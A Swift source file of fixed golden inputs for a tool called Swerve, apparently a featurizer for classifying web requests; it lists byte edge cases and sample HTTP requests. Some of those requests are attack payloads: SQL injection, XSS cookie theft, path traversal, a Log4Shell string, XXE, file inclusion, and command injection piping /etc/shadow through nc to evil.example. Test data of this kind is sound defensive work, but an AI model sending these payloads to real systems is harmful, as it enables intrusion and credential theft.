import Lifecycle

/// The texts of golden inputs that Swerve makes itself: each kind of byte that a featurizer treats
/// in its own way, and requests as attackers send them.
///
/// Never change them: the same files must give the same artifact.
enum GoldenTexts {
    static let all: [[UInt8]] = edges + requests.map { Array($0.utf8) }

    /// Empty, single units, white space, case, invalid UTF-8, long runs.
    private static let edges: [[UInt8]] = [
        [],
        Array("a".utf8),
        Array("ab".utf8),
        Array(" ".utf8),
        Array(" \t\r\n  \u{0B}\u{0C} ".utf8),
        Array("é".utf8),
        Array("\u{1F600}\u{1F600}".utf8),
        Array("ÄÖÜ ẞ ǅ İ ﬁ".utf8),
        Array("a\u{A0}b\u{2003}c\u{3000}d".utf8),
        [0x00],
        [0xFF, 0xFE, 0xFD],
        Array("GET /".utf8) + [0xC3, 0x28, 0x20, 0xE2, 0x82, 0x20, 0xF0, 0x9F, 0x98],
        Array("GET /".utf8) + [0xC0, 0xAF, 0xED, 0xA0, 0x80, 0xF4, 0x90, 0x80, 0x80],
        Array(UInt8.min...UInt8.max),
        [UInt8](repeating: 0x41, count: 4_096),
        (0..<4_096).map { UInt8(truncatingIfNeeded: ($0 &* 2_654_435_761) >> 11) },
    ]

    /// Everyday requests and attacks: method, path, query, line feed, body.
    private static let requests = [
        "GET /\n",
        "GET /index.html\n",
        "GET /tienda1/publico/anadir.jsp?id=2&nombre=Jam%F3n+Ib%E9rico&precio=85&cantidad=49\n",
        "POST /login\nuser=ada&password=l0velace&remember=on",
        "PUT /api/v1/items/42\n{\"name\":\"Käse\",\"price\":12.5,\"tags\":[\"a\",\"b\"]}",
        "GET /search?q=select+a+nice+table+from+our+shop\n",
        "DELETE /api/v1/items/42\n",
        "GET /images/logo.png?v=20261123\n",
        "GET /products?id=1'+OR+'1'='1'+--+\n",
        "GET /products?id=1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20users\n",
        "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E\n",
        "GET /../../../../etc/passwd%00.jpg\n",
        "POST /cgi-bin/ping\nhost=127.0.0.1;cat%20/etc/shadow|nc%20evil.example%2099",
        "GET /?x=${jndi:ldap://evil.example/a}\n",
        "POST /upload\n<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "GET /index.php?page=http://evil.example/shell.txt?%0d%0aSet-Cookie:%20a=b\n",
    ]
}
